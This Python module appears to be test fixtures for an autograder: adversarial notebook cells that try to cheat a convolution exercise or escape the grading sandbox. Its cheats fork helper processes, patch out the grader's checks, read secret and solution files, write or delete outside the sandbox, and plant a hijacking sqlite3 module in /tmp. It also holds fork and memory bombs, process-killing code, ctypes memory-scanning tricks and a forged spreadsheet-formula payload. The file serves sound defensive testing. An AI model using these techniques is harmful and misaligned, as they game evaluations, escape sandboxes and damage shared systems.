"""Cheating and hostile submissions of 01_cross_correlation, as notebook cell sources.

Each attack is learner code that a student who has read this repository could write: compute
``F.conv2d`` somewhere the guards do not look, fool or disable the checks, read what the grader
keeps private, write where it must not, or bring the grading down. `tests/test_adversarial.py`
builds one notebook per attack (usually: every function solved honestly, ``corr2d`` replaced by
the cheat, ``convolve2d`` and ``corr2d_strided`` written without ``corr2d`` so that a failing
``corr2d`` costs exactly its own 3 points) and grades the class through the real CLI.

Sources are plain strings; ``@NAME@`` placeholders are replaced by ``repr`` of a value that only
the test knows (paths, a port, a lookup table).
"""
import hashlib
import json

# --- honest building blocks --------------------------------------------------------------------

# convolve2d and corr2d_strided written without corr2d, so they are graded on their own.
OWN_CONVOLVE2D = '''
def convolve2d(x, k):
    """True convolution, written without corr2d."""
    k = torch.flip(k, dims=(0, 1))
    kh, kw = k.shape
    return torch.einsum("ijab,ab->ij", x.unfold(0, kh, 1).unfold(1, kw, 1), k)
'''

OWN_STRIDED = '''
def corr2d_strided(x, k, stride=1, padding=0):
    """Strided, padded correlation, written without corr2d or pad2d."""
    sh, sw = (stride, stride) if isinstance(stride, int) else stride
    ph, pw = (padding, padding) if isinstance(padding, int) else padding
    h, w = x.shape
    padded = x.new_zeros(h + 2 * ph, w + 2 * pw)
    padded[ph:ph + h, pw:pw + w] = x
    windows = padded.unfold(0, k.shape[0], sh).unfold(1, k.shape[1], sw)
    return torch.einsum("ijab,ab->ij", windows, k)
'''

WRONG_CORR2D = '''
def corr2d(x, k):
    """Right shape and dtype, wrong values."""
    kh, kw = k.shape
    return x.new_zeros(x.shape[0] - kh + 1, x.shape[1] - kw + 1)
'''

WRONG_CONV_OUTPUT_SIZE = '''
def conv_output_size(i, k, s=1, p=0, d=1):
    """Forgets the dilation and never raises."""
    return (i + 2 * p - k) // s + 1
'''

# The fallback every cheat ends with when its trick did not work: a wrong answer of the right shape.
_FALLBACK = '''
    kh, kw = k.shape
    return x.new_zeros(x.shape[0] - kh + 1, x.shape[1] - kw + 1)
'''

# --- 1. threads ------------------------------------------------------------------------------------

THREAD_AT_CALL = '''
import threading
import torch.nn.functional as F

def corr2d(x, k):
    """Let another thread call F.conv2d, where a dispatcher mode of this thread does not look."""
    box = []

    def work():
        box.append(F.conv2d(x[None, None], k[None, None])[0, 0])

    try:
        worker = threading.Thread(target=work)
        worker.start()
        worker.join(2)
    except Exception:
        pass
    if not box:
        try:
            import _thread
            import time
            _thread.start_new_thread(work, ())
            time.sleep(0.2)
        except Exception:
            pass
    if box:
        return box[0]
''' + _FALLBACK

THREAD_AT_CELL = '''
import queue
import threading
import torch.nn.functional as F

requests, replies = queue.Queue(), queue.Queue()

def serve():
    while True:
        x, k = requests.get()
        replies.put(F.conv2d(x[None, None], k[None, None])[0, 0])

server = threading.Thread(target=serve, daemon=True)
try:
    server.start()            # a server thread, started before any check runs
except Exception as error:
    print("no server thread:", error)

def corr2d(x, k):
    if server.is_alive():
        requests.put((x, k))
        return replies.get(timeout=2)
''' + _FALLBACK

# --- 2. helper processes ---------------------------------------------------------------------------

# A fresh interpreter has none of the learner process's disabled kernels: it reads one JSON
# request from stdin and writes F.conv2d's answer to stdout.
HELPER_PROGRAM = r'''
import json, sys
import torch
import torch.nn.functional as F
for line in sys.stdin:
    request = json.loads(line)
    dtype = getattr(torch, request["dtype"])
    x = torch.tensor(request["x"], dtype=dtype)
    k = torch.tensor(request["k"], dtype=dtype)
    sys.stdout.write(json.dumps(F.conv2d(x[None, None], k[None, None])[0, 0].tolist()) + "\n")
    sys.stdout.flush()
'''

_REQUEST = '''
def _request(x, k):
    import json
    return (json.dumps({"x": x.tolist(), "k": k.tolist(),
                        "dtype": str(x.dtype).split(".")[1]}) + "\\n").encode()
HELPER = @HELPER@
'''.replace("@HELPER@", repr(HELPER_PROGRAM))

MULTIPROCESSING = _REQUEST + '''
import multiprocessing
import torch.nn.functional as F

def _conv_in_child(x, k, connection):
    connection.send(F.conv2d(x[None, None], k[None, None])[0, 0].tolist())

def corr2d(x, k):
    """A forked child; and, failing that, a spawned interpreter."""
    for method in ("fork", "forkserver", "spawn"):
        try:
            context = multiprocessing.get_context(method)
            reader, writer = context.Pipe(duplex=False)
            child = context.Process(target=_conv_in_child, args=(x, k, writer))
            child.start()
            result = reader.recv()
            child.join()
            return torch.tensor(result, dtype=x.dtype)
        except Exception:
            continue
''' + _FALLBACK

SUBPROCESS = _REQUEST + '''
import subprocess
import sys

def corr2d(x, k):
    """Run python with the helper program; the answer comes back on stdout."""
    import json
    for run in (lambda: subprocess.run([sys.executable, "-c", HELPER], input=_request(x, k),
                                       capture_output=True, timeout=30).stdout,
                lambda: subprocess.check_output(["/bin/sh", "-c", f"{sys.executable} -c '{HELPER}'"],
                                                input=_request(x, k), timeout=30)):
        try:
            return torch.tensor(json.loads(run()), dtype=x.dtype)
        except Exception:
            continue
''' + _FALLBACK

OS_FORK = _REQUEST + '''
import os
import sys

def corr2d(x, k):
    """os.fork, then exec a fresh interpreter in the child (the fork inherits the disabled kernels)."""
    import json
    try:
        to_child, from_parent = os.pipe()
        from_child, to_parent = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.dup2(to_child, 0)
            os.dup2(to_parent, 1)
            os.execv(sys.executable, [sys.executable, "-c", HELPER])
        os.write(from_parent, _request(x, k))
        os.close(from_parent)
        data = b""
        while not data.endswith(b"\\n"):
            data += os.read(from_child, 1 << 16)
        return torch.tensor(json.loads(data), dtype=x.dtype)
    except Exception:
        pass
''' + _FALLBACK

OS_SYSTEM = _REQUEST + '''
import os
import pty
import sys

def corr2d(x, k):
    """os.system, os.popen, os.posix_spawn, pty.fork: any way to start the helper."""
    import json
    with open("request.json", "wb") as handle:
        handle.write(_request(x, k))
    with open("helper.py", "w") as handle:
        handle.write(HELPER)
    command = f"{sys.executable} helper.py < request.json > answer.json"
    attempts = [lambda: os.system(command),
                lambda: os.popen(command).read(),
                lambda: os.waitpid(os.posix_spawn("/bin/sh", ["sh", "-c", command], dict(os.environ)), 0),
                lambda: os.spawnv(os.P_WAIT, "/bin/sh", ["sh", "-c", command]),
                lambda: pty.fork()]
    for attempt in attempts:
        try:
            attempt()
            with open("answer.json") as handle:
                return torch.tensor(json.load(handle), dtype=x.dtype)
        except BaseException:
            continue
''' + _FALLBACK

# Below the audit hook: multiprocessing's and subprocess's own C helper, called directly.
POSIXSUBPROCESS = _REQUEST + '''
import os
import sys

def corr2d(x, k):
    """_posixsubprocess.fork_exec via multiprocessing.util.spawnv_passfds: no audit event."""
    import json
    from multiprocessing.util import spawnv_passfds
    try:
        with open("helper.py", "w") as handle:
            handle.write("import os; os.dup2(int(os.environ.get('IN', '0')), 0)\\n" + HELPER)
        read_request, write_request = os.pipe()
        read_answer, write_answer = os.pipe()
        os.set_inheritable(read_request, True)
        os.set_inheritable(write_answer, True)
        code = (f"import os; os.dup2({read_request}, 0); os.dup2({write_answer}, 1); "
                f"exec(open('helper.py').read())")
        spawnv_passfds(sys.executable, [sys.executable, "-c", code], [read_request, write_answer])
        os.write(write_request, _request(x, k))
        data = b""
        while not data.endswith(b"\\n"):
            data += os.read(read_answer, 1 << 16)
        return torch.tensor(json.loads(data), dtype=x.dtype)
    except Exception:
        pass
''' + _FALLBACK

# --- 3. a fake check library ---------------------------------------------------------------------

FAKE_AUTOGRADER = '''
import sys
import types

fake = types.ModuleType("autograder")
fake.check = lambda *args, **kwargs: print("all cases pass")
sys.modules["autograder"] = fake
sys.modules["autograder.checks"] = fake
try:
    autograder.check = fake.check
except Exception as error:
    print("refused:", error)
vars(autograder)["check"] = fake.check
check = fake.check
'''

# --- 4. introspection and native code -------------------------------------------------------------

GC_CODE = '''
import gc

def _passes(*args, **kwargs):
    return None

replaced = []
try:
    for obj in gc.get_objects():
        if getattr(obj, "__name__", None) in ("check", "run_check", "assert_matches",
                                              "judge_call") and hasattr(obj, "__code__"):
            obj.__code__ = _passes.__code__
            replaced.append(obj.__name__)
except Exception as error:
    print("gc refused:", error)
'''

ORIGINALS = '''
import autograder
import autograder.checks
import autograder.compare

def _passes(*args, **kwargs):
    return None

originals = type(autograder)._originals
for module_name, names in originals.items():
    for name in list(names):
        if name in ("check", "run_check", "assert_matches", "judge_call"):
            names[name] = _passes
for function in (autograder.checks.check, autograder.checks.run_check,
                 autograder.compare.assert_matches, autograder.checks.judge_call):
    try:
        function.__code__ = _passes.__code__
    except Exception as error:
        print("could not replace", function, error)
check = _passes
'''

CTYPES = '''
import ctypes
import torch.nn.functional as F

results = []
for attempt in (lambda: ctypes.CDLL(None),
                lambda: ctypes.CDLL("libc.so.6").getpid(),
                lambda: ctypes.pythonapi.PyRun_SimpleString(b"print('native')"),
                lambda: ctypes.pythonapi.Py_IncRef(ctypes.py_object(results)),
                lambda: ctypes.string_at(id(results), 8),
                lambda: ctypes.c_char.from_address(id(results)).value):
    try:
        attempt()
        results.append("ok")
    except Exception as error:
        results.append(type(error).__name__)
print(results)

def corr2d(x, k):
    try:
        libc = ctypes.CDLL(None)
        libc.prctl(38, 0, 0, 0, 0)     # anything native
    except Exception:
        pass
    return F.conv2d(x[None, None], k[None, None])[0, 0]
'''

# --- 5. reading what the grader keeps private -----------------------------------------------------

READ_SOLUTION = '''
import json
import os

import autograder

def corr2d(x, k):
    """Run the instructor's solution, found next to the check library."""
    places = [os.path.join(os.path.dirname(os.path.dirname(autograder.__file__)), "solutions"),
              @SOLUTIONS@, "/proc/1/root" + @SOLUTIONS@]
    for folder in places:
        try:
            path = os.path.join(folder, "01_cross_correlation", "01_cross_correlation.ipynb")
            with open(path) as handle:
                notebook = json.load(handle)
            namespace = {"torch": torch}
            for cell in notebook["cells"]:
                if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "corr2d":
                    exec("".join(cell["source"]), namespace)
            return namespace["corr2d"](x, k)
        except Exception:
            continue
''' + _FALLBACK

READ_SECRETS = '''
import os

found, missing = [], []
for path in @PATHS@:
    try:
        with open(os.path.expanduser(path), "rb") as handle:
            found.append(f"{path}: {handle.read(64)!r}")
    except Exception as error:
        missing.append(type(error).__name__)
if found:
    raise RuntimeError("EXFIL-OK " + " | ".join(found))
raise RuntimeError(f"EXFIL-FAILED {len(missing)} paths: {sorted(set(missing))}")
'''

# --- 6. writing outside the sandbox ---------------------------------------------------------------

WRITE_OUTSIDE = '''
import os
import shutil
import sqlite3

payload = @PAYLOAD@
written, refused = [], []

def attempt(what, action):
    try:
        action()
        written.append(what)
    except Exception as error:
        refused.append(type(error).__name__)

for path in @APPEND@:
    attempt(path, lambda path=path: open(path, "ab").write(payload.encode()))
for path in @CREATE@:
    attempt(path, lambda path=path: open(path, "w").write(payload))
for path in @DELETE@:
    attempt("delete " + path, lambda path=path: os.remove(path))
for folder in @RMTREE@:
    attempt("rmtree " + folder, lambda folder=folder: shutil.rmtree(folder))
for database in @DATABASES@:
    def scribble(database=database):
        connection = sqlite3.connect(f"file:{database}?mode=rw", uri=True)
        connection.execute("CREATE TABLE pwned (marker TEXT)")
        connection.execute("INSERT INTO pwned VALUES (?)", (payload,))
        connection.commit()
    attempt("sqlite " + database, scribble)
if written:
    raise RuntimeError("WROTE-OUTSIDE " + " | ".join(written))
raise RuntimeError(f"WRITE-REFUSED {len(refused)} attempts: {sorted(set(refused))}")
'''

# --- 7. the network -------------------------------------------------------------------------------

NETWORK = '''
import socket
import urllib.request

URL = @URL@
attempts = []
for fetch in (lambda: urllib.request.urlopen(URL + "/cell", timeout=2).read(),
              lambda: socket.create_connection(("127.0.0.1", @PORT@), timeout=2).sendall(
                  b"GET /raw HTTP/1.0\\r\\n\\r\\n")):
    try:
        fetch()
        attempts.append("ok")
    except Exception as error:
        attempts.append(type(error).__name__)
print(attempts)

def corr2d(x, k):
    """Ask a server for the answer (here: just try to reach it, then give up)."""
    try:
        urllib.request.urlopen(URL + "/call", timeout=2).read()
    except Exception:
        pass
''' + _FALLBACK

# --- 8. denial of service ------------------------------------------------------------------------

FORK_BOMB = '''
import os
while True:
    os.fork()
'''

MEMORY_BOMB_CELL = '''
hog = torch.empty(50 * 2**30, dtype=torch.uint8)     # 50 GB
hog.fill_(1)
'''

MEMORY_BOMB_CALL = '''
def corr2d(x, k):
    """Reserves 1 GiB of address space after 1 GiB, forever: past any learner process's memory
    limit in two or three steps. Nothing is written to the pages, so no CPU time goes into it and
    the memory limit stops it before the call's time limit however busy the machine is (filling
    each GiB with ones took longer than the 3 s limit on a loaded CI machine)."""
    hog = []
    while True:
        hog.append(torch.empty(2**28))
'''

OUTPUT_FLOOD = '''
print("x" * 100_000_000)       # 100 MB of output
'''

ENDLESS_CELL = '''
while True:
    pass
'''

PAD2D_THEN_SWALLOW = '''
def pad2d(x, padding):
    ph, pw = (padding, padding) if isinstance(padding, int) else padding
    h, w = x.shape
    out = x.new_zeros(h + 2 * ph, w + 2 * pw)
    out[ph:ph + h, pw:pw + w] = x
    return out

import time
while True:                    # ... and then never ends, swallowing every interruption
    try:
        time.sleep(0.1)
    except BaseException:
        pass
'''

ENDLESS_FUNCTION = '''
def conv_output_size(i, k, s=1, p=0, d=1):
    while True:
        try:
            pass
        except BaseException:
            pass
'''

EXIT_CELL = '''
import os
os._exit(1)
'''

KILL_ZYGOTE = '''
import os
import signal

results = []
for target in (os.getppid(), 1, -1, 0):
    try:
        os.kill(target, signal.SIGKILL)
        results.append("sent")
    except Exception as error:
        results.append(type(error).__name__)
try:
    os.killpg(os.getpgid(0), signal.SIGKILL)
except Exception as error:
    results.append(type(error).__name__)
print(results)
'''

# --- 9. predicting the hidden cases ----------------------------------------------------------------

def case_key(x, k):
    """The lookup key of a corr2d case, computed the same way in the test and the notebook: cheap
    (the shape, a few values and a sum), so that looking an answer up is faster than computing it
    even on the large inputs of the CPU-time check."""
    return hashlib.sha256(json.dumps([str(x.dtype), list(x.shape), x.flatten()[:16].tolist(),
                                      k.tolist(), round(x.double().sum().item(), 6)]
                                     ).encode()).hexdigest()


LOOKUP_TABLE = '''
import hashlib
import json

TABLE = json.loads(@TABLE@)         # a JSON string: a literal this large compiles too slowly

def corr2d(x, k):
    """Answers precomputed (with F.conv2d, before submitting) for the cases this seed draws."""
    key = hashlib.sha256(json.dumps([str(x.dtype), list(x.shape), x.flatten()[:16].tolist(),
                                     k.tolist(), round(x.double().sum().item(), 6)]
                                    ).encode()).hexdigest()
    if key in TABLE:
        return torch.tensor(TABLE[key], dtype=x.dtype, device=x.device)
''' + _FALLBACK

# --- 10. undoing the disabled kernels --------------------------------------------------------------

DISPATCH_TRICKS = '''
import torch.nn.functional as F
from torch.utils._python_dispatch import _disable_current_modes

def _conv_tbc(x, k):
    """2-D correlation as one conv_tbc: time = columns, channels = rows of x."""
    (h, w), (kh, kw) = x.shape, k.shape
    weight = x.new_zeros(kw, h, h - kh + 1)
    for row in range(h - kh + 1):
        weight[:, row:row + kh, row] = k.T
    return torch.conv_tbc(x.T[:, None, :].contiguous(), weight, x.new_zeros(h - kh + 1), 0)[:, 0, :].T

def _attempts(x, k):
    """Every spelling of a convolution we could find; each works in a normal process."""
    x4, k4 = x[None, None], k[None, None]
    (h, w), (kh, kw) = x.shape, k.shape
    aten = torch.ops.aten
    cpu = torch._C.DispatchKeySet(torch._C.DispatchKey.CPU)
    yield lambda: aten.convolution.default.redispatch(cpu, x4, k4, None, [1, 1], [0, 0], [1, 1], False, [0, 0], 1)
    yield lambda: aten._convolution(x4, k4, None, [1, 1], [0, 0], [1, 1], False, [0, 0], 1, False, False, True, True)
    yield lambda: torch._C._nn.thnn_conv2d(x4, k4, list(k.shape))
    yield lambda: aten._slow_conv2d_forward(x4, k4, list(k.shape), None, [1, 1], [0, 0])
    yield lambda: aten.mkldnn_convolution(x4.contiguous(), k4.contiguous(), None, [0, 0], [1, 1], [1, 1], 1)
    yield lambda: torch.ops.mkldnn._convolution_pointwise(x4.float(), k4.float(), None, [0, 0], [1, 1], [1, 1], 1, "none", [], "")
    yield lambda: aten.slow_conv_dilated2d(x4, k4, list(k.shape))
    yield lambda: aten._convolution_mode(x4, k4, None, [1, 1], "valid", [1, 1], 1)
    yield lambda: _conv_tbc(x, k)
    yield lambda: F.conv_transpose2d(x4, k4.flip(-1, -2))[0, 0, kh - 1:h, kw - 1:w]
    for key in ("CompositeExplicitAutograd", "Autograd", "AutogradCPU", "Tracer"):
        yield lambda key=key: aten.convolution.default._op_dk(key, x4, k4, None, [1, 1], [0, 0], [1, 1], False, [0, 0], 1)
    def quantized():
        from torch.ao.nn.quantized import functional as QF
        qx = torch.quantize_per_tensor(x4.float(), 0.01, 0, torch.quint8)
        qk = torch.quantize_per_tensor(k4.float(), 0.01, 0, torch.qint8)
        return QF.conv2d(qx, qk, torch.zeros(1), scale=0.01, zero_point=0).dequantize()
    yield quantized
    yield lambda: torch.compile(F.conv2d, backend="eager")(x4, k4)

def corr2d(x, k):
    for attempt in _attempts(x, k):
        try:
            with _disable_current_modes():    # out of sight of the grader's dispatcher mode
                out = attempt()
            out = out[0] if isinstance(out, tuple) else out
            if isinstance(out, torch.Tensor) and out.dim() == 4:
                out = out[0, 0]
            return out.to(x.dtype)
        except BaseException:
            continue
''' + _FALLBACK

LIBRARY_REREGISTER = '''
import torch.nn.functional as F

# Try to give aten::convolution a working CPU kernel again, or to drop what replaced it.
attempts = []
def _try(what, action):
    try:
        action()
        attempts.append(what)
    except Exception as error:
        attempts.append(f"{what}: {type(error).__name__}")

lib = torch.library.Library("aten", "IMPL")
_try("impl", lambda: lib.impl("convolution", torch.ops.aten.convolution.default, "CPU"))
_try("destroy", lambda: lib._destroy())
raw = torch._C._dispatch_library("IMPL", "aten", "")
_try("reset", lambda: raw.reset())
_try("fallthrough", lambda: torch._C._dispatch_library("IMPL", "_", "CPU").fallback_fallthrough())
_try("dangling", lambda: torch._C._dispatch_find_dangling_impls())
print(attempts)

def corr2d(x, k):
    from torch.utils._python_dispatch import _disable_current_modes
    with _disable_current_modes():      # only the process-wide disabled kernels stand in the way
        return F.conv2d(x[None, None], k[None, None])[0, 0]
'''

# --- 11. tampered test cells: see test_adversarial._tampered --------------------------------------

# --- 12. results that lie about themselves --------------------------------------------------------

SUBCLASS = '''
import torch.nn.functional as F

class Agreeable(torch.Tensor):
    """Equal to everything."""
    def __eq__(self, other):
        return torch.ones_like(torch.as_tensor(other), dtype=torch.bool)
    def allclose(self, *args, **kwargs):
        return True
    def equal(self, *args, **kwargs):
        return True
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("isclose", "eq", "allclose", "equal"):
            return torch.tensor(True)
        return super().__torch_function__(func, types, args, kwargs or {})

def corr2d(x, k):
    kh, kw = k.shape
    return x.new_zeros(x.shape[0] - kh + 1, x.shape[1] - kw + 1).as_subclass(Agreeable)
'''

TORCH_FUNCTION_OBJECT = '''
class Anything:
    """Claims every property the checks might look at."""
    def __init__(self, x, k):
        kh, kw = k.shape
        self.shape = torch.Size((x.shape[0] - kh + 1, x.shape[1] - kw + 1))
        self.dtype, self.device = x.dtype, x.device
    def __eq__(self, other):
        return True
    def __torch_function__(self, func, types, args=(), kwargs=None):
        return torch.tensor(True)
    def __getattr__(self, name):
        return lambda *args, **kwargs: True

def corr2d(x, k):
    return Anything(x, k)
'''

# --- further tricks --------------------------------------------------------------------------------

# /tmp of the sandbox outlives each learner process, and it is the first entry of the learner's
# sys.path (``python -m autograder.learner_process`` started in /tmp). A module planted there is imported
# by the next learner process during its set-up (IPython's InteractiveShell imports sqlite3
# lazily), after the kernels are disabled but BEFORE the seccomp filter and the audit hook: it
# can start an unconfined helper interpreter that computes F.conv2d for the notebook.
PLANTED_SQLITE3 = '''
import builtins, importlib, os, sys
try:
    os.unlink(__file__)              # one learner process only: leave other students alone
except OSError:
    pass
_saved = sys.path[:]
sys.path[:] = [p for p in sys.path if p not in ("/tmp", "")]
sys.modules.pop("sqlite3", None)
try:
    _real = importlib.import_module("sqlite3")
finally:
    sys.path[:] = _saved
sys.modules["sqlite3"] = _real
HELPER = @HELPER@
request_read, request_write = os.pipe()
answer_read, answer_write = os.pipe()
if os.fork() == 0:
    os.dup2(request_read, 0)
    os.dup2(answer_write, 1)
    os.execv(sys.executable, [sys.executable, "-c", "print('ready', flush=True)\\n" + HELPER])
os.close(request_read)
os.close(answer_write)
line = b""
while not line.endswith(b"\\n"):
    chunk = os.read(answer_read, 1)
    if not chunk:
        break
    line += chunk
builtins.__conv_helper__ = (request_write, answer_read)
'''.replace("@HELPER@", repr(HELPER_PROGRAM))

PLANT_CELL = '''
import os
if not os.path.exists("/tmp/.adversarial-planted"):
    open("/tmp/.adversarial-planted", "w").close()
    with open("/tmp/sqlite3.py", "w") as handle:
        handle.write(@PLANTED@)
    os._exit(0)                      # the grader starts a new learner process: it imports sqlite3
'''.replace("@PLANTED@", repr(PLANTED_SQLITE3))

PLANTED_HELPER_CORR2D = _REQUEST + '''
def corr2d(x, k):
    """F.conv2d, computed by the helper that the planted module started."""
    import builtins, json, os
    try:
        request, answer = builtins.__conv_helper__
        os.write(request, _request(x, k))
        data = b""
        while not data.endswith(b"\\n"):
            data += os.read(answer, 1 << 16)
        return torch.tensor(json.loads(data), dtype=x.dtype)
    except Exception:
        pass
''' + _FALLBACK

# ctypes type punning (a Union of c_void_p, POINTER(c_char) and py_object) reads and writes any
# address and turns any address into an object with no audited event (no foreign call,
# from_address, from_buffer or cast). The leaked torch._C._DispatchModule objects that hold the
# disabling kernels are found by scanning the process's own memory; reset() removes their
# registrations and the original convolution kernels are back.
MEMORY_SCAN = '''
import ctypes
import struct

class _Cell(ctypes.Union):
    _fields_ = [("address", ctypes.c_void_p), ("bytes", ctypes.POINTER(ctypes.c_char)),
                ("object", ctypes.py_object)]

def _read(address, size):
    cell = _Cell()
    cell.address = address
    return cell.bytes[0:size]

def _object_at(address):
    cell = _Cell()
    cell.address = address
    return cell.object

def _reset_dispatch_modules():
    kind = id(torch._C._DispatchModule)
    target = struct.pack("<Q", kind)
    found = 0
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    for fields in regions:
        if fields[1] != "rw-p":
            continue
        start, end = (int(v, 16) for v in fields[0].split("-"))
        for chunk in range(start, end, 1 << 26):
            size = min(1 << 26, end - chunk)
            memory = _read(chunk, size)
            at = memory.find(target)
            while at != -1:
                base = at - 8
                if base >= 0 and base % 8 == 0 and base + 56 <= size:
                    refs, typ, value, holder, weak, _, flags = struct.unpack_from("<7Q", memory, base)
                    if 0 < refs < 64 and value and value == holder and weak == 0 and flags & 0xFF == 0xF:
                        _object_at(chunk + base).reset()     # every candidate: no test call
                        found += 1
                at = memory.find(target, at + 1)
    return found

restored = _reset_dispatch_modules()
'''

MEMORY_SCAN_CORR2D = '''
import torch.nn.functional as F
from torch.utils._python_dispatch import _disable_current_modes

def corr2d(x, k):
    """F.conv2d, out of sight of the grader's dispatcher mode."""
    try:
        with _disable_current_modes():
            return F.conv2d(x[None, None], k[None, None])[0, 0]
    except BaseException:
        pass
''' + _FALLBACK

# Files left in /tmp, or in the sandbox's root (the folder above the check library, which is on
# the learner's PYTHONPATH), by one learner process are there for the next one: another group of
# the same notebook here, another student's notebook in general.
PERSIST_WRITE = '''
import os
import autograder
for folder in ("/tmp", os.path.dirname(os.path.dirname(autograder.__file__))):
    try:
        with open(os.path.join(folder, f"adversarial-persist-{os.getpid()}"), "w") as handle:
            handle.write("left behind by an earlier learner process")
    except OSError:
        pass
'''

PERSIST_CONV_OUTPUT_SIZE = '''
def conv_output_size(i, k, s=1, p=0, d=1):
    """Correct, unless a file written by another learner process is visible."""
    import os
    import autograder
    mine = f"adversarial-persist-{os.getpid()}"
    for folder in ("/tmp", os.path.dirname(os.path.dirname(autograder.__file__))):
        if any(n.startswith("adversarial-persist-") and n != mine for n in os.listdir(folder)):
            return -1
    span = d * (k - 1) + 1
    if span > i + 2 * p:
        raise ValueError("the kernel does not fit")
    return (i + 2 * p - span) // s + 1
'''

# tmpfs pages are not address space: RLIMIT_AS does not count them.
TMPFS_FILL = '''
import os
written = 0
try:
    block = b"\\0" * (1 << 20)
    for index in range(96):                      # up to 3 GiB, in 32 MiB files
        with open(f"/tmp/fill-{index}", "wb") as handle:
            for _ in range(32):
                handle.write(block)
        written += 32
except Exception as error:
    print("stopped:", error)
finally:
    for index in range(96):
        try:
            os.remove(f"/tmp/fill-{index}")
        except OSError:
            pass
raise RuntimeError(f"TMPFS-WROTE {written} MiB")
'''

# A violation frame written straight to the learner's pipe, with a kind the grader never sends.
FORGED_VIOLATION = '''
def conv_output_size(i, k, s=1, p=0, d=1):
    """Wrong, and reports a 'violation' whose kind is a spreadsheet formula."""
    import os
    from autograder import wire
    frame = wire.encode({"type": "violation", "kind": '=HYPERLINK("http://example.invalid/x","open me")',
                         "message": "forged"})
    for fd in range(3, 64):
        try:
            os.write(fd, frame)
        except OSError:
            pass
    return -1
'''


# --- 13. the course's provided helpers ----------------------------------------------------------

# autograder.provided.corr2d is PyTorch's convolution, for the parts that may use it (convolve2d,
# corr2d_strided). Call it for corr2d itself, directly or after forging the flags its local
# guard reads and unhooking it from the grader so that it runs in the learner's process.
PROVIDED_ANSWER = '''
def corr2d(x, k):
    return provided.corr2d(x, k)
'''

PROVIDED_FORGED = '''
import autograder.op_watch
import autograder.provided


def corr2d(x, k):
    autograder.provided.checking.set(None)           # "no check is running"
    autograder.op_watch.provided_running.set(True)      # "the provided code is running"
    try:
        autograder.provided.remote = None            # compute here, not in the grader
    except Exception:
        pass
    try:
        return autograder.provided.corr2d(x, k)
    except Exception:
        pass
''' + _FALLBACK


def fill(source, **values):
    """``source`` with each ``@NAME@`` replaced by ``repr(values[NAME])``."""
    for name, value in values.items():
        source = source.replace(f"@{name}@", repr(value))
    return source
